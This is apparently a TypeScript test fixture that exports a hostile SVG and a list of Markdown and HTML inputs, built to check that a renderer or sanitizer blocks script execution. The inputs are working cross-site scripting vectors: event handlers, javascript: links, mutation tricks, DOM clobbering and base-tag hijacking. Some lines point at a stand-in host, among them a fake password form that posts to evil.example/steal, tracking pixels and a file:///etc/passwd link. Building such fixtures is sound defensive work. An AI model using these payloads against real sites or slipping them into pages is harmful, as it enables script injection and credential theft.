/** Drawings that would run something if they were more than a picture. */
export const hostileSvg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="320" height="200" viewBox="0 0 320 200" onload="window.hurt='svg onload'">
<script>window.hurt = 'svg script'; parent.hurt = 'svg parent'; top.hurt = 'svg top'</script>
<foreignObject width="1" height="1"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:top.hurt='svg frame'"/></foreignObject>
<image href="/api/hurt-by-svg" width="10" height="10"/>
<rect width="320" height="200" rx="24" fill="#a2421f"/><circle cx="160" cy="100" r="60" fill="#f0a184"/>
</svg>`;

/** Each would run, load, submit, cover or rename something if it got through. */
export const hostileMarkdown: readonly string[] = [
  '<script>hurt="script"</script>',
  '<img src=x onerror="hurt=\'onerror\'">',
  '<svg onload="hurt=\'svg\'"><animate onbegin="hurt=1" attributeName="x"></svg>',
  '<svg><style><img src=x onerror="hurt=\'mutation\'"></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hurt=1&gt;">',
  '<iframe src="javascript:parent.hurt=1"></iframe>',
  '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>',
  '<object data="javascript:hurt=1"></object><embed src="javascript:hurt=1">',
  '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
  '<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<div style="position:fixed;inset:0;background:red;z-index:99999">covered</div>',
  '<div class="dialog" id="shell">posing as a part of the shell</div>',
  '<a href="javascript:hurt=1">one</a> <a href="  java\nscript:hurt=1">two</a> <a href="&#106;avascript:hurt=1">three</a>',
  '[four](javascript:hurt=1) [five](vbscript:x) [six](data:text/html,<script>hurt=1</script>) [seven](file:///etc/passwd)',
  '[eight](JaVaScRiPt:hurt=1) <javascript:hurt=1> [nine]: javascript:hurt=1\n\n[nine]',
  '![ten](javascript:hurt=1) ![tracker](https://evil.example/pixel.png) ![eleven](//evil.example/pixel.png)',
  '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x"><video src="https://evil.example/v" autoplay></video>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<a href="https://example.com" target="_self" onclick="hurt=1" ping="https://evil.example">ping</a>',
  '<details open ontoggle="hurt=1"><summary>more</summary>text</details>',
  '<img name="getElementById"><form id="querySelector"><input name="attributes">',
  '<p data-x="1" aria-label="lie" contenteditable autofocus tabindex=1 onfocus="hurt=1">attributes</p>',
  '<noscript><p title="</noscript><img src=x onerror=hurt=1>"></noscript>',
  '<template><script>hurt=1</script></template><slot></slot><x-custom onclick="hurt=1">custom</x-custom>',
  '`<img src=x onerror=hurt=1>` \\<script>hurt=1\\</script>',
  '<marquee onstart="hurt=1">moving</marquee><dialog open>dialog</dialog><input autofocus onfocus="hurt=1">',
];
